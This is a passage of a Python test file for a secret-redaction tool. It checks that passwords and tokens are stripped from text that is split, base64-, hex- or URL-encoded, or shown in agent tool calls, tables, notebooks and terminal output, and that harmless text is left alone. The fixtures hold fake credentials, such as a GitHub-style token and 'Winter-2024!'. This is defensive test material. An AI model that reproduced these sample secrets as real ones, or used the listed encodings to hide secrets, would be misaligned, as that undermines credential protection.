    "secret", ["ghp_R4kX9mT2vB7nQ5wZ8jL3cF6hD1sG0pY4aE2u", "qX7mR2kT9vB4nW6z", "Winter-Cabin-2024!"]
)
@pytest.mark.parametrize("carrier", CUT)
def test_a_secret_that_is_cut_leaves_all_of_its_pieces(carrier: str, secret: str) -> None:
    cut, together = CUT[carrier]
    text = cut(secret)
    assert secret in together(text)
    assert is_suspicious(orjson.dumps({"role": "tool", "content": text})) or "letter" in carrier
    left = together(Redactor().redact(text)[0])
    assert secret[:8] not in left and secret[-8:] not in left


@pytest.mark.parametrize(
    "text",
    [
        "\n".join(json.dumps({"delta": one}) for one in cut_up("The token count of the second week is 512, not 98.")),
        wrapped("Whoever forgot a password can ask for a new one, and then the page shows a token.", 48, "> "),
        '[{"text": "Password"}, {"text": "Forgot it?"}, {"text": "Sign"}, {"text": "in"}, {"text": "Help"}]',
        "\n".join(json.dumps({"id": f"a{number}f{number}", "type": "string"}) for number in range(40)),
        '"id","password","host"\n"1","","db"\n"2","","web"\n',
        "\n".join(f"    '\\x{code:02x}'     #  0x{code:02X} -> TOKEN {code}" for code in range(10, 60)),
        "$ ls -l\n-rw-r--r-- 1 root root  12 token.py\n-rw-r--r-- 1 root root 512 secrets.md\n",
    ],
)
def test_cut_texts_without_a_secret_stay(text: str) -> None:
    assert Redactor().redact(text)[0] == text


@pytest.mark.parametrize("before", ["", "x", "xy"])
@pytest.mark.parametrize("secret", ["qX7mR2kT9vB4nW6z", "Winter<Cabin>2024!"])
@pytest.mark.parametrize(
    "encoded",
    [
        lambda text: base64.b64encode(text.encode()).decode(),
        lambda text: text.encode().hex(),
        lambda text: quote(text, safe=""),
        html.escape,
    ],
)
def test_a_secret_leaves_the_other_messages_in_whatever_encoding(
    encoded: Callable[[str], str], secret: str, before: str
) -> None:
    other = f"see {encoded(f'{before}{secret}')} there"
    redactor = Redactor()
    redactor.find(f"export DB_PASSWORD='{secret}'")
    redacted, _, originals = redactor.redact_reversibly(other)
    assert encoded(before + secret)[6:18] not in redacted
    assert restore(redacted, originals) == other


@pytest.mark.parametrize(
    "value",
    [
        [
            {
                "role": "assistant",
                "content": "Now I enter the password.",
                "tool_calls": [
                    {
                        "id": "1",
                        "function": {"name": "computer", "arguments": '{"action": "type", "text": "Winter-2024!"}'},
                    }
                ],
            }
        ],
        {"values": [["user", "password"], ["bob", "Winter-2024!"]]},
        {"source": ["print(os.environ['DB_PASSWORD'])"], "outputs": [{"text": ["Winter-2024!\n"]}]},
        "app\0--password\0Winter-2024!\0",
        {"columns": ["user", "password"], "rows": [["bob", "Winter-2024!"]]},
        {"text": ["the password is ", {"type": "code", "text": "Winter-2024!"}]},
        {"op": "replace", "path": "/spec/db_password", "value": "Winter-2024!"},
        '- textbox "Password" [ref=e3]: Winter-2024!\n- button "OK"',
        "I need to enter the password.\nAction: type(content='Winter-2024!')",
        'a:1:{s:8:"password";s:12:"Winter-2024!";}',
        "DB_PASSWORD=[-Winter-2024!-]{+changed+}",
        "^[[36mdb_password^[[0m=^[[1mWinter-2024!^[[0m",
        "::add-mask::Winter-2024!",
        'getenv("DB_PASSWORD") = "Winter-2024!"',
        '<meta name="db-password" content="Winter-2024!">',
        "# the password\nxdotool type --delay 12 'Winter-2024!'",
        "db_password: !!str Winter-2024!",
        "A1: Name | B1: Password\nA2: bob | B2: Winter-2024!",
        "<table><tr><th>user</th><th>password</th></tr>\n<tr><td>bob</td><td>Winter-2024!</td></tr></table>",
    ],
)
def test_a_password_is_found_where_a_screen_a_notebook_or_a_tracer_shows_it(value: object) -> None:
    assert "2024" not in json.dumps(Redactor().redact(value)[0])
